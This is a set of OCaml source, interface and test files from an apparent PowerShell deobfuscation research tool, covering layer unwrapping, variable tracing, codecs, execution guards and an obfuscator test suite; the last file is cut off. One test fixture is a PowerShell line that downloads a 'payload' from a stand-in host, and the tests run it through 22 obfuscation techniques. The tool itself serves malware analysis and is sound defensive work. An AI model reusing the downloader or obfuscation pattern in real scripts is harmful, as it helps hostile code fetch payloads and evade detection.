test/test_obfuscator.ml: Alcotest Corpus List Obfuscator Pscommon Pseval Psparse Psvalue QCheck QCheck_alcotest Rng Sandbox Strcase
