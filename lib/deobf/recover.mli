(** Recovery based on AST (paper §III-B): one in-order pass that unwraps
    [Invoke-Expression] layers, executes recoverable pieces against the
    traced context, and substitutes known variable values — all as in-place
    extent edits, syntax-checked as a whole. *)

type options = {
  use_tracing : bool;  (** ablation: Algorithm 1 on/off *)
  use_blocklist : bool;  (** ablation: skip pieces naming blocked commands *)
  use_multilayer : bool;  (** ablation: IEX / [-EncodedCommand] unwrapping *)
  max_depth : int;  (** multi-layer recursion bound *)
  piece_step_budget : int;  (** interpreter budget per invoked piece *)
  piece_timeout_s : float;
      (** wall-clock budget per invoked piece; each piece runs under a
          {!Pscommon.Guard.protect}, so a crashing or hanging piece degrades
          to "kept obfuscated" instead of aborting the pass *)
}

val default_options : options

type stats = {
  mutable pieces_recovered : int;
  mutable variables_substituted : int;
  mutable layers_unwrapped : int;
  mutable pieces_attempted : int;
  mutable pieces_blocked : int;
}

val new_stats : unit -> stats

val is_recoverable : Psast.Ast.t -> bool
(** The paper's recoverable-node test (§III-B1): PipelineAst,
    UnaryExpressionAst, BinaryExpressionAst, ConvertExpressionAst,
    InvokeMemberExpressionAst, SubExpressionAst. *)

val run_pass :
  opts:options ->
  stats:stats ->
  deobfuscate:(depth:int -> string -> string) ->
  depth:int ->
  string ->
  string
(** One recovery pass over a script.  [deobfuscate] is the full engine,
    called recursively on unwrapped layer payloads.  Returns the input
    unchanged when it does not parse or when the edits would break it. *)
