(** Overriding-function simulation shared by the regex-based baselines:
    literal [Invoke-Expression]/[IEX] spellings are intercepted and their
    payloads captured; obfuscated spellings run for real (and, with the
    feeds' C2 servers dead, usually crash). *)

type run_outcome = {
  captured : string list;  (** payloads the override saw, in order *)
  events : Pseval.Env.event list;  (** side effects of full execution *)
  failed : bool;  (** script crashed before finishing *)
}

val run_with_override : ?max_steps:int -> string -> run_outcome

val peel_layers :
  ?max_layers:int -> string -> string * int * Pseval.Env.event list
(** Iterate capture until no further layer appears.  Returns the final
    layer, the number of layers peeled, and all events. *)
