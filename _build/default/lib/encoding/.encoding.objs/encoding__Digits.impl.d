lib/encoding/digits.ml: Buffer Char List Printf String
