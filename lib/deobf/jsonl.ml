(** Minimal field extraction over single-line JSON objects.

    Shared by the batch resume journal and the serve daemon's NDJSON
    protocol.  This is {e not} a general JSON parser: it scans flat
    objects whose strings were escaped by {!Report.json_escape} (so a
    value never contains a raw newline or an unescaped quote).  A
    malformed line simply fails to match — exactly the right degradation
    for a journal replay or an untrusted request line, where the answer
    to "can't read it" is "skip it / answer with an error", never an
    exception. *)

let index_of hay needle =
  let nh = String.length hay and nn = String.length needle in
  let rec go i =
    if i + nn > nh then None
    else if String.sub hay i nn = needle then Some i
    else go (i + 1)
  in
  go 0

let scan_string line i =
  let buf = Buffer.create 16 in
  let n = String.length line in
  let rec go i =
    if i >= n then None
    else
      match line.[i] with
      | '"' -> Some (Buffer.contents buf)
      | '\\' when i + 1 < n -> (
          match line.[i + 1] with
          | 'n' -> Buffer.add_char buf '\n'; go (i + 2)
          | 'r' -> Buffer.add_char buf '\r'; go (i + 2)
          | 't' -> Buffer.add_char buf '\t'; go (i + 2)
          | 'u' when i + 5 < n ->
              (match int_of_string_opt ("0x" ^ String.sub line (i + 2) 4) with
              | Some c when c < 0x100 -> Buffer.add_char buf (Char.chr c)
              | _ -> ());
              go (i + 6)
          | c -> Buffer.add_char buf c; go (i + 2))
      | c -> Buffer.add_char buf c; go (i + 1)
  in
  go i

let field_start line key =
  match index_of line ("\"" ^ key ^ "\":") with
  | None -> None
  | Some i ->
      let j = ref (i + String.length key + 3) in
      let n = String.length line in
      while !j < n && line.[!j] = ' ' do incr j done;
      if !j >= n then None else Some !j

let string_field line key =
  match field_start line key with
  | Some j when line.[j] = '"' -> scan_string line (j + 1)
  | _ -> None

let int_field line key =
  match field_start line key with
  | None -> None
  | Some j ->
      let n = String.length line in
      let k = ref j in
      while
        !k < n && (line.[!k] = '-' || (line.[!k] >= '0' && line.[!k] <= '9'))
      do
        incr k
      done;
      int_of_string_opt (String.sub line j (!k - j))

let float_field line key =
  match field_start line key with
  | None -> None
  | Some j ->
      let n = String.length line in
      let k = ref j in
      while
        !k < n
        && (match line.[!k] with
           | '-' | '+' | '.' | 'e' | 'E' | '0' .. '9' -> true
           | _ -> false)
      do
        incr k
      done;
      float_of_string_opt (String.sub line j (!k - j))

let bool_field line key =
  match field_start line key with
  | Some j when j + 4 <= String.length line && String.sub line j 4 = "true" ->
      Some true
  | Some j when j + 5 <= String.length line && String.sub line j 5 = "false"
    ->
      Some false
  | _ -> None

(* Flattening is safe for anything we rendered ourselves: json_string
   escapes newlines inside values, so every '\n' left in a multi-line
   rendering is formatting whitespace between tokens. *)
let oneline s = String.map (fun c -> if c = '\n' then ' ' else c) s
