(** UTF-16LE transcoding restricted to the Latin-1 range.

    PowerShell's [-EncodedCommand] is base64 over UTF-16LE; malicious
    payloads are overwhelmingly ASCII, so a Latin-1-range codec exercises the
    same code path as [\[Text.Encoding\]::Unicode]. *)

val encode : string -> string
(** Each input byte becomes the little-endian 16-bit unit [byte, 0x00]. *)

val decode : string -> (string, string) result
(** Accepts an even-length string of 16-bit units; units above 0xFF are
    replaced by ['?'] (same as a lossy [GetString] on non-Latin text).
    [Error _] on odd length. *)

val decode_lossy : string -> string
(** Like {!decode}, but an odd trailing byte is dropped. *)

val looks_utf16 : string -> bool
(** Detection heuristic: even length, and at least 80% of the high bytes of
    each unit are zero. *)
