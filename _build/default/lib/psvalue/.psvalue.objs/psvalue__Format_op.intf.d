lib/psvalue/format_op.mli: Value
