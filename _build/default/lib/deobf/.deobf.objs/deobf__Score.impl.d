lib/deobf/score.ml: Encoding Extent List Psast Pscommon Pslex Psparse Rename Strcase String Tracer
