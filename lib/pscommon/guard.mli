(** Fault containment: guarded execution under resource deadlines.

    Every pipeline entry point (engine, sandbox, baselines, batch runs) is
    made {e total} by running its work inside {!protect}: a stack overflow
    on a deeply nested script, a wall-clock overrun in a decode loop, or a
    stray exception from a malformed sample degrades into a structured
    {!failure} instead of killing the process.

    Deadlines are cooperative: {!protect} installs its deadline as the
    {e ambient} deadline for the duration of the call, and the interpreter's
    step accounting ({!Pseval.Env.tick}) polls it, so any evaluator created
    below a guard inherits the time budget without explicit threading. *)

type failure =
  | Parse_failure  (** the input never parsed; nothing to work on *)
  | Stack_exhausted  (** recursion blew the stack (deeply nested input) *)
  | Timeout  (** the wall-clock deadline passed *)
  | Oom
      (** the allocator gave up ([Out_of_memory]) — kept distinct from
          {!Unexpected} so failure-site counters and batch reports can
          separate memory exhaustion from genuine bugs *)
  | Output_too_large  (** the result exceeded the output byte cap *)
  | Interpreter_limit of string
      (** a cooperative evaluator limit fired (steps, string bytes,
          collection size, invoke depth) *)
  | Wedged
      (** the supervisor declared the worker handling this request wedged:
          past its deadline plus the grace window with no cooperative
          checkpoint reached — the cooperative machinery never got a chance
          to raise, so the watchdog answered on the worker's behalf *)
  | Unexpected of string  (** any other exception, contained *)

val failure_label : failure -> string
(** Stable kebab-case tag of the taxonomy, for JSON reports. *)

val failure_to_string : failure -> string
(** Human-readable rendering, including the detail payload. *)

exception Deadline_exceeded
(** Raised cooperatively (e.g. by [Env.tick]) when past the ambient
    deadline; {!protect} maps it to {!Timeout}. *)

exception Injected_oom
(** The chaos memory fault ({!Chaos.set_oom_exn} registration).  Classified
    as {!Oom}, so injected exhaustion produces the same structured failure
    as the allocator really giving up — without raising the runtime's
    preallocated [Out_of_memory] from library code. *)

exception Allocation_budget_exceeded
(** Raised cooperatively by {!check} when the ambient per-request
    major-allocation budget (installed via {!protect}'s [max_major_bytes])
    is exhausted; classified as {!Oom}. *)

type deadline = float
(** Absolute time in epoch seconds; [infinity] means no deadline. *)

val no_deadline : deadline

val deadline_after : float -> deadline
(** [deadline_after s] is [s] seconds from now ([infinity]-safe). *)

val now : unit -> float
(** Wall clock in epoch seconds. *)

val ambient_deadline : unit -> deadline
(** The innermost deadline installed by an enclosing {!protect}, or
    {!no_deadline} outside any guard.  The deadline stack is
    {e domain-local} (Domain.DLS): parallel batch workers each see only
    their own guards, so deadlines never leak across domains. *)

val expired : deadline -> bool
val remaining_s : deadline -> float

val ambient_remaining_s : unit -> float
(** Seconds left on the innermost ambient deadline ([infinity] outside any
    guard, negative when expired) — what a request handler has left of its
    budget, e.g. to report alongside a timeout response. *)

val check : deadline -> unit
(** The cooperative checkpoint: publishes a heartbeat ({!beat}), enforces
    the ambient allocation budget, then the deadline.
    @raise Deadline_exceeded when [deadline] has passed.
    @raise Allocation_budget_exceeded when the ambient major-allocation
    budget is exhausted. *)

val set_progress_cell : int Atomic.t option -> unit
(** Register this domain's heartbeat cell.  Every cooperative checkpoint
    ({!check}, {!protect} entry) bumps it with one [Atomic.incr]; a
    supervisor watching the cell from another domain can tell a worker
    that is slow-but-polling (cell moving — the cooperative deadline will
    fire at its next checkpoint) from one that is wedged in a non-raising
    loop (cell frozen past the deadline).  Domain-local: parallel workers
    never share a cell.  [None] (the initial state) makes {!beat} free. *)

val beat : unit -> unit
(** Bump this domain's registered heartbeat cell, if any. *)

val register_classifier : (exn -> failure option) -> unit
(** Let higher layers map their exceptions into the taxonomy without a
    dependency cycle (e.g. the evaluator registers [Limit_exceeded] as
    {!Interpreter_limit}). *)

val classify_exn : exn -> failure

val protect :
  ?deadline:deadline ->
  ?max_output_bytes:int ->
  ?measure:('a -> int) ->
  ?max_major_bytes:int ->
  (unit -> 'a) ->
  ('a, failure) result
(** [protect f] runs [f ()] with every escape hatch closed: [Stack_overflow],
    [Out_of_memory], {!Deadline_exceeded} and any other exception become
    [Error failure].  The effective deadline is the minimum of [deadline]
    and the ambient one; it is installed as ambient for the duration of
    [f], and an already-expired deadline returns [Error Timeout] without
    running [f].  When both [max_output_bytes] and [measure] are given, a
    result measuring larger returns [Error Output_too_large].

    [max_major_bytes] installs a cooperative major-allocation budget for
    the duration of [f]: {!check} compares the major-heap growth since
    entry against it and raises (classified {!Oom}) when exhausted.  The
    underlying [Gc.quick_stat] counters are runtime-wide, so with parallel
    workers the meter over-counts — size it as a generous backstop against
    allocation bombs, not an SLA. *)
