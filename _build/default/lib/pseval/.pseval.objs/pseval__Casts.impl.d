lib/pseval/casts.ml: Array List Printf Psast Pscommon Psparse Psvalue String Value
