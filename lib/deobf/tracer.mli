(** Variable tracing (paper Algorithm 1): a symbol table of variables whose
    value is known from straight-line top-level assignments.  Variables
    assigned inside loops or conditionals are never recorded; an assignment
    whose right-hand side mentions an unknown variable evicts its target. *)

type t

val create : unit -> t

val is_automatic : string -> bool
(** Built-in variables ([$pshome], [$true], [$env:*], [$_], …) that are
    always "known" without being traced. *)

val record : t -> string -> Psvalue.Value.t -> unit
val remove : t -> string -> unit
val lookup : t -> string -> Psvalue.Value.t option

val known : t -> string -> bool
(** Traced or automatic. *)

val bindings : t -> (string * Psvalue.Value.t) list

val digest : t -> string option
(** Memoized {!Pseval.Env.bindings_digest} of the current table, recomputed
    only after a {!record}/{!remove}.  [None] when the table holds a value
    that cannot be fingerprinted (compound / mutable) — piece results must
    not be cached under such a table. *)

val seed_env : t -> Pseval.Env.t -> unit
(** Install every traced value into an evaluation environment — the context
    that lets recovery execute pieces containing variables. *)

val variables_read : Psast.Ast.t -> string list
(** Every variable read in a subtree, including interpolations inside
    expandable strings. *)

val unknown_variables : t -> Psast.Ast.t -> string list
(** Variables read in the subtree that are neither traced nor automatic
    (Algorithm 1 line 15). *)

val assigned_names : Psast.Ast.t -> string list
(** Names assigned anywhere in a subtree: assignments, foreach loop
    variables, [++]/[--]. *)

val evict_assigned : t -> Psast.Ast.t -> unit
(** Remove every name assigned inside the subtree — applied to loop and
    conditional bodies after processing them. *)
