(* Tests for the encoding substrate: base64, radix codecs, UTF-16LE,
   DEFLATE. *)

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

(* ---------- base64 ---------- *)

let test_base64_vectors () =
  (* RFC 4648 vectors *)
  List.iter
    (fun (plain, encoded) ->
      check_s ("encode " ^ plain) encoded (Encoding.Base64.encode plain);
      check_s ("decode " ^ encoded) plain (Encoding.Base64.decode_exn encoded))
    [ ("", ""); ("f", "Zg=="); ("fo", "Zm8="); ("foo", "Zm9v");
      ("foob", "Zm9vYg=="); ("fooba", "Zm9vYmE="); ("foobar", "Zm9vYmFy") ]

let test_base64_whitespace_tolerated () =
  check_s "whitespace" "foobar" (Encoding.Base64.decode_exn "Zm9v\n YmFy")

let test_base64_missing_padding () =
  check_s "no padding" "fo" (Encoding.Base64.decode_exn "Zm8")

let test_base64_invalid () =
  check_b "invalid char" true
    (match Encoding.Base64.decode "Zm9v!x==" with Error _ -> true | Ok _ -> false);
  check_b "data after padding" true
    (match Encoding.Base64.decode "Zg==Zg" with Error _ -> true | Ok _ -> false)

let test_base64_plausible () =
  let good = Encoding.Base64.encode (String.make 30 'a') in
  check_b "long base64 plausible" true (Encoding.Base64.is_plausible good);
  check_b "short not plausible" false (Encoding.Base64.is_plausible "Zg==");
  check_b "prose not plausible" false
    (Encoding.Base64.is_plausible "hello world this is text!")

(* ---------- digits ---------- *)

let test_digits_render () =
  check_s "binary" "1101000" (Encoding.Digits.to_string Encoding.Digits.Binary 104);
  check_s "octal" "150" (Encoding.Digits.to_string Encoding.Digits.Octal 104);
  check_s "decimal" "104" (Encoding.Digits.to_string Encoding.Digits.Decimal 104);
  check_s "hex" "68" (Encoding.Digits.to_string Encoding.Digits.Hex 104);
  check_s "zero" "0" (Encoding.Digits.to_string Encoding.Digits.Hex 0)

let test_digits_parse () =
  Alcotest.(check (option int)) "binary" (Some 104)
    (Encoding.Digits.of_string Encoding.Digits.Binary "1101000");
  Alcotest.(check (option int)) "hex caseless" (Some 255)
    (Encoding.Digits.of_string Encoding.Digits.Hex "FF");
  Alcotest.(check (option int)) "bad digit" None
    (Encoding.Digits.of_string Encoding.Digits.Octal "19");
  Alcotest.(check (option int)) "empty" None
    (Encoding.Digits.of_string Encoding.Digits.Decimal "")

let test_digits_roundtrip_codes () =
  let s = "write-host hello" in
  List.iter
    (fun radix ->
      let codes = Encoding.Digits.encode_codes radix s in
      match Encoding.Digits.decode_codes radix codes with
      | Ok out -> check_s "roundtrip" s out
      | Error e -> Alcotest.fail e)
    [ Encoding.Digits.Binary; Encoding.Digits.Octal; Encoding.Digits.Decimal;
      Encoding.Digits.Hex ]

(* ---------- utf16 ---------- *)

let test_utf16_roundtrip () =
  check_s "roundtrip" "write-host" (Encoding.Utf16.decode_lossy (Encoding.Utf16.encode "write-host"));
  check_i "length doubles" 20 (String.length (Encoding.Utf16.encode "0123456789"))

let test_utf16_odd_length () =
  check_b "odd is error" true
    (match Encoding.Utf16.decode "abc" with Error _ -> true | Ok _ -> false);
  check_s "lossy drops tail" "a" (Encoding.Utf16.decode_lossy "a\x00b")

let test_utf16_detection () =
  check_b "detect" true (Encoding.Utf16.looks_utf16 (Encoding.Utf16.encode "hello"));
  check_b "plain ascii not utf16" false (Encoding.Utf16.looks_utf16 "hello world")

let test_utf16_non_latin_replaced () =
  match Encoding.Utf16.decode "\x41\x00\x03\x26" with (* A, ☃-ish *)
  | Ok s -> check_s "replacement" "A?" s
  | Error e -> Alcotest.fail e

(* ---------- huffman ---------- *)

let test_huffman_fixed_tables () =
  let lit = Encoding.Huffman.fixed_literal_lengths () in
  check_i "288 symbols" 288 (Array.length lit);
  check_i "symbol 0 len" 8 lit.(0);
  check_i "symbol 200 len" 9 lit.(200);
  check_i "symbol 270 len" 7 lit.(270);
  check_i "symbol 287 len" 8 lit.(287)

let test_huffman_codes_canonical () =
  (* RFC 1951 example: lengths (3,3,3,3,3,2,4,4) -> codes 010..111,00,1110,1111 *)
  let codes = Encoding.Huffman.codes_of_lengths [| 3; 3; 3; 3; 3; 2; 4; 4 |] in
  Alcotest.(check (list int)) "codes"
    [ 0b010; 0b011; 0b100; 0b101; 0b110; 0b00; 0b1110; 0b1111 ]
    (Array.to_list codes)

let test_huffman_decoder_rejects_bad () =
  check_b "oversubscribed" true
    (match Encoding.Huffman.decoder_of_lengths [| 1; 1; 1 |] with
    | Error _ -> true
    | Ok _ -> false);
  check_b "no symbols" true
    (match Encoding.Huffman.decoder_of_lengths [| 0; 0 |] with
    | Error _ -> true
    | Ok _ -> false)

(* ---------- deflate ---------- *)

let test_deflate_roundtrip_cases () =
  List.iter
    (fun s ->
      check_s "fixed-huffman roundtrip" s (Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate s));
      check_s "stored roundtrip" s
        (Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate_stored s)))
    [ ""; "a"; "abcabcabcabc"; String.make 1000 'x';
      String.init 500 (fun i -> Char.chr (i mod 256));
      String.concat ";" (List.init 100 (fun i -> Printf.sprintf "stmt%d" i)) ]

let test_deflate_compresses_repetitive () =
  let s = String.concat "" (List.init 200 (fun _ -> "Invoke-Expression ")) in
  let c = Encoding.Deflate.deflate s in
  check_b "smaller" true (String.length c < String.length s / 4)

let test_inflate_rejects_garbage () =
  check_b "garbage" true
    (match Encoding.Inflate.inflate "\xff\xff\xff\xff" with
    | Error _ -> true
    | Ok _ -> false);
  check_b "truncated" true
    (match Encoding.Inflate.inflate "" with Error _ -> true | Ok _ -> false)

let test_inflate_stored_len_mismatch () =
  (* stored block with wrong NLEN must be rejected *)
  let w = Encoding.Bitstream.Writer.create () in
  Encoding.Bitstream.Writer.bits w ~value:1 ~count:1;
  Encoding.Bitstream.Writer.bits w ~value:0 ~count:2;
  Encoding.Bitstream.Writer.align_byte w;
  Encoding.Bitstream.Writer.bits w ~value:3 ~count:16;
  Encoding.Bitstream.Writer.bits w ~value:0 ~count:16;
  let s = Encoding.Bitstream.Writer.contents w in
  check_b "len/nlen mismatch" true
    (match Encoding.Inflate.inflate s with Error _ -> true | Ok _ -> false)

(* ---------- bitstream ---------- *)

let test_bitstream_roundtrip () =
  let w = Encoding.Bitstream.Writer.create () in
  Encoding.Bitstream.Writer.bits w ~value:0b101 ~count:3;
  Encoding.Bitstream.Writer.bits w ~value:0xAB ~count:8;
  Encoding.Bitstream.Writer.bits w ~value:0b11 ~count:2;
  let s = Encoding.Bitstream.Writer.contents w in
  let r = Encoding.Bitstream.Reader.create s in
  check_i "3 bits" 0b101 (Encoding.Bitstream.Reader.bits r 3);
  check_i "8 bits" 0xAB (Encoding.Bitstream.Reader.bits r 8);
  check_i "2 bits" 0b11 (Encoding.Bitstream.Reader.bits r 2)

let test_bitstream_align_and_bytes () =
  let w = Encoding.Bitstream.Writer.create () in
  Encoding.Bitstream.Writer.bits w ~value:1 ~count:1;
  Encoding.Bitstream.Writer.align_byte w;
  Encoding.Bitstream.Writer.byte w 'Z';
  let s = Encoding.Bitstream.Writer.contents w in
  let r = Encoding.Bitstream.Reader.create s in
  ignore (Encoding.Bitstream.Reader.bits r 1);
  Encoding.Bitstream.Reader.align_byte r;
  check_s "aligned byte" "Z" (Encoding.Bitstream.Reader.bytes r 1)

(* ---------- properties ---------- *)

let prop_base64_roundtrip =
  QCheck.Test.make ~name:"base64: decode . encode = id" ~count:500
    QCheck.(string_of_size Gen.(int_range 0 200))
    (fun s -> Encoding.Base64.decode_exn (Encoding.Base64.encode s) = s)

let prop_deflate_roundtrip =
  QCheck.Test.make ~name:"deflate: inflate . deflate = id" ~count:200
    QCheck.(string_of_size Gen.(int_range 0 2000))
    (fun s -> Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate s) = s)

let prop_utf16_roundtrip =
  QCheck.Test.make ~name:"utf16: decode_lossy . encode = id" ~count:500
    QCheck.(string_of_size Gen.(int_range 0 100))
    (fun s -> Encoding.Utf16.decode_lossy (Encoding.Utf16.encode s) = s)

let prop_digits_roundtrip =
  QCheck.Test.make ~name:"digits: of_string . to_string = id" ~count:500
    QCheck.(pair (int_bound 3) (int_bound 100000))
    (fun (r, n) ->
      let radix =
        match r with
        | 0 -> Encoding.Digits.Binary
        | 1 -> Encoding.Digits.Octal
        | 2 -> Encoding.Digits.Decimal
        | _ -> Encoding.Digits.Hex
      in
      Encoding.Digits.of_string radix (Encoding.Digits.to_string radix n) = Some n)

let suite =
  [
    ("base64 vectors", `Quick, test_base64_vectors);
    ("base64 whitespace", `Quick, test_base64_whitespace_tolerated);
    ("base64 missing padding", `Quick, test_base64_missing_padding);
    ("base64 invalid", `Quick, test_base64_invalid);
    ("base64 plausible", `Quick, test_base64_plausible);
    ("digits render", `Quick, test_digits_render);
    ("digits parse", `Quick, test_digits_parse);
    ("digits roundtrip", `Quick, test_digits_roundtrip_codes);
    ("utf16 roundtrip", `Quick, test_utf16_roundtrip);
    ("utf16 odd length", `Quick, test_utf16_odd_length);
    ("utf16 detection", `Quick, test_utf16_detection);
    ("utf16 replacement", `Quick, test_utf16_non_latin_replaced);
    ("huffman fixed tables", `Quick, test_huffman_fixed_tables);
    ("huffman canonical codes", `Quick, test_huffman_codes_canonical);
    ("huffman rejects bad", `Quick, test_huffman_decoder_rejects_bad);
    ("deflate roundtrip cases", `Quick, test_deflate_roundtrip_cases);
    ("deflate compresses", `Quick, test_deflate_compresses_repetitive);
    ("inflate rejects garbage", `Quick, test_inflate_rejects_garbage);
    ("inflate stored mismatch", `Quick, test_inflate_stored_len_mismatch);
    ("bitstream roundtrip", `Quick, test_bitstream_roundtrip);
    ("bitstream align", `Quick, test_bitstream_align_and_bytes);
    QCheck_alcotest.to_alcotest prop_base64_roundtrip;
    QCheck_alcotest.to_alcotest prop_deflate_roundtrip;
    QCheck_alcotest.to_alcotest prop_utf16_roundtrip;
    QCheck_alcotest.to_alcotest prop_digits_roundtrip;
  ]
