lib/experiments/case_study.ml: Baselines Deobf List Printf String
