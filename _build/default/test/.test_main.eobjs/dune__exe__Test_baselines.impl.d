test/test_baselines.ml: Alcotest Baselines List Printf Pscommon Psparse Strcase String
