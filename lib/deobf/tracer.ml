(** Variable tracing (paper Algorithm 1).

    A symbol table records the value of variables assigned by straight-line
    top-level code.  Variables assigned inside loops or conditionals are
    deliberately {e not} recorded (their value depends on run time), and an
    assignment whose right-hand side mentions an unknown variable evicts the
    target.  Recovery seeds its evaluation environment from this table,
    which is what lets it execute pieces that mention variables. *)

open Pscommon
module A = Psast.Ast
module Value = Psvalue.Value

let m_records = Telemetry.Metrics.counter "tracer.records"
let m_evictions = Telemetry.Metrics.counter "tracer.evictions"

type t = {
  mutable table : Value.t Strcase.Map.t;
  mutable digest : string option option;
      (** memoized {!Pseval.Env.bindings_digest} of [table]; outer [None]
          means stale (recompute), inner [None] means the table holds a
          compound value and cannot be fingerprinted *)
}

let create () = { table = Strcase.Map.empty; digest = None }

let automatic_names =
  List.fold_left
    (fun acc (n, _) -> Strcase.Set.add n acc)
    Strcase.Set.empty Pseval.Env.automatic_variables
  |> Strcase.Set.add "_"
  |> Strcase.Set.add "args"
  |> Strcase.Set.add "input"
  |> Strcase.Set.add "ofs"
  |> Strcase.Set.add "$"
  |> Strcase.Set.add "?"
  |> Strcase.Set.add "^"

let is_automatic name =
  Strcase.Set.mem name automatic_names
  || Strcase.starts_with ~prefix:"env:" name

let record t name value =
  Telemetry.Metrics.incr m_records;
  if Telemetry.active () then
    Telemetry.event "tracer.record"
      ~attrs:
        [ ("var", Telemetry.S name);
          ("type", Telemetry.S (Value.type_name value)) ];
  t.table <- Strcase.Map.add (Strcase.lower name) value t.table;
  t.digest <- None

let remove t name =
  (* an eviction decision (unknown RHS, loop-assigned, blocklisted RHS,
     failed evaluation) — only note ones that change the table *)
  if Strcase.Map.mem (Strcase.lower name) t.table then begin
    Telemetry.Metrics.incr m_evictions;
    if Telemetry.active () then
      Telemetry.event "tracer.evict" ~attrs:[ ("var", Telemetry.S name) ]
  end;
  t.table <- Strcase.Map.remove (Strcase.lower name) t.table;
  t.digest <- None

let lookup t name = Strcase.Map.find_opt (Strcase.lower name) t.table

let known t name = is_automatic name || Strcase.Map.mem (Strcase.lower name) t.table

let bindings t = Strcase.Map.bindings t.table

let digest t =
  match t.digest with
  | Some d -> d
  | None ->
      let d = Pseval.Env.bindings_digest (bindings t) in
      t.digest <- Some d;
      d

(** Seed an evaluation environment with the traced values. *)
let seed_env t env =
  Strcase.Map.iter (fun name value -> Pseval.Env.set_var env name value) t.table

(** Variables read anywhere in a subtree: every VariableExpressionAst plus
    interpolations inside expandable strings. *)
let variables_read node =
  let from_parts parts =
    List.filter_map
      (function
        | A.Part_variable (v, _) -> Some v.A.var_name
        | A.Part_text _ | A.Part_subexpr _ -> None)
      parts
  in
  A.fold_pre_order
    (fun acc n ->
      match n.A.node with
      | A.Variable_expr v -> v.A.var_name :: acc
      | A.Expandable_string (_, parts) -> from_parts parts @ acc
      | _ -> acc)
    [] node

(** Unknown variables in a subtree — Algorithm 1 line 15. *)
let unknown_variables t node =
  variables_read node
  |> List.filter (fun name -> not (known t name))
  |> List.sort_uniq Strcase.compare

(** Names assigned anywhere in a subtree (assignment statements, foreach
    loop variables, ++/--).  Used to evict variables mutated inside
    loop/conditional bodies. *)
let assigned_names node =
  A.fold_pre_order
    (fun acc n ->
      match n.A.node with
      | A.Assignment (_, { A.node = A.Variable_expr v; _ }, _) ->
          v.A.var_name :: acc
      | A.Assignment (_, { A.node = A.Convert_expr (_, { A.node = A.Variable_expr v; _ }); _ }, _) ->
          v.A.var_name :: acc
      | A.Foreach_stmt ({ A.node = A.Variable_expr v; _ }, _, _) ->
          v.A.var_name :: acc
      | A.Unary_expr ((A.Incr | A.Decr), { A.node = A.Variable_expr v; _ })
      | A.Postfix_expr ((A.Incr | A.Decr), { A.node = A.Variable_expr v; _ }) ->
          v.A.var_name :: acc
      | _ -> acc)
    [] node
  |> List.sort_uniq Strcase.compare

let evict_assigned t node = List.iter (remove t) (assigned_names node)
