(** Closure compilation of recoverable pieces.

    Lowers a piece's AST once into a tree of OCaml closures — operators
    pre-resolved, names and error texts pre-rendered, variable-free
    constant subtrees pre-folded into shared immutable values — so that
    re-running the piece (the recovery fixpoint re-attempts every
    unrecovered piece each pass) skips the per-node dispatch of
    {!Interp.eval_expr}.

    A compiled program is observationally identical to the AST walk: step
    accounting ({!Env.tick_n} replays folded subtrees' step cost), size
    checks, short-circuit order, error messages, the [interp.eval] chaos
    probe and the [interp.invoke_piece] telemetry span all match
    {!Interp.run_script} / {!Interp.invoke_piece}.  Node shapes the
    compiler does not specialize fall back to the interpreter per subtree. *)

type program
(** A piece compiled against its source text.  Immutable and reusable
    across environments and domains: closures capture only the AST and
    pre-computed constants, never an {!Env.t}. *)

val compile : string -> program
(** Parse and lower [src].  Never raises — a parse failure is stored and
    surfaced by {!run}/{!run_script} with the exact message
    {!Interp.run_script} would produce. *)

val source : program -> string
(** The source text the program was compiled from. *)

val run : Env.t -> program -> (Psvalue.Value.t, string) result
(** Execute against [env]; the compiled counterpart of
    {!Interp.invoke_piece} (collected output as one value, the
    [interp.invoke_piece] span around it). *)

val run_script : Env.t -> program -> (Psvalue.Value.t list, string) result
(** Execute against [env]; the compiled counterpart of
    {!Interp.run_script} (output stream, every evaluation exception
    rendered to a message). *)
