examples/tool_comparison.ml: Baselines List Printf Psparse Sandbox String
