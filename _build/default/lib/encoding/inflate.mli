(** RFC 1951 DEFLATE decompression.

    Implements all three block types (stored, fixed Huffman, dynamic
    Huffman), which is what [\[IO.Compression.DeflateStream\]] in
    [Decompress] mode accepts — the decoder side of DeflateStream
    obfuscation. *)

val inflate : string -> (string, string) result
(** Decompress a raw DEFLATE stream (no zlib/gzip wrapper, matching
    .NET's [DeflateStream]).  [Error _] describes the corruption. *)

val inflate_exn : string -> string
(** @raise Invalid_argument on corrupt input. *)

val max_output : int
(** Output size cap (64 MiB) guarding against decompression bombs in
    hostile scripts. *)

(**/**)

(* RFC 1951 §3.2.5 tables, shared with the compressor. *)
val length_base : int array
val length_extra : int array
val dist_base : int array
val dist_extra : int array
