(* Tests for the obfuscator: every technique must yield valid syntax and
   preserve sandbox behaviour — otherwise none of the paper's experiments
   are meaningful. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let payload =
  "$u = 'https://updates.example.com/payload.txt'\n\
   (New-Object Net.WebClient).DownloadString($u) | Out-Null"

let behavior src = Sandbox.network_signature (Sandbox.run src)

let test_each_technique_valid_and_consistent () =
  let reference = behavior payload in
  List.iteri
    (fun i technique ->
      let rng = Rng.of_int (1000 + i) in
      let obfuscated = Obfuscator.Obfuscate.apply rng technique payload in
      check_b
        (Obfuscator.Technique.name technique ^ " valid")
        true
        (Psparse.Parser.is_valid_syntax obfuscated);
      Alcotest.(check (list string))
        (Obfuscator.Technique.name technique ^ " behaviour")
        reference (behavior obfuscated))
    Obfuscator.Technique.all

let test_levels () =
  check_i "l1 count" 5 (List.length Obfuscator.Technique.l1);
  check_i "l2 count" 4 (List.length Obfuscator.Technique.l2);
  check_i "l3 count" 10 (List.length Obfuscator.Technique.l3);
  check_i "dynamic count" 3 (List.length Obfuscator.Technique.dynamic);
  (* the dynamic techniques are excluded from every wild-mix pool, so
     seeded corpora did not shift when they were added *)
  List.iter
    (fun t ->
      check_b
        (Obfuscator.Technique.name t ^ " not pooled")
        false
        (List.mem t Obfuscator.Technique.l1
        || List.mem t Obfuscator.Technique.l2
        || List.mem t Obfuscator.Technique.l3))
    Obfuscator.Technique.dynamic;
  check_i "all" 22 (List.length Obfuscator.Technique.all)

let test_technique_names_roundtrip () =
  List.iter
    (fun t ->
      match Obfuscator.Technique.of_name (Obfuscator.Technique.name t) with
      | Some t' -> check_b "roundtrip" true (t = t')
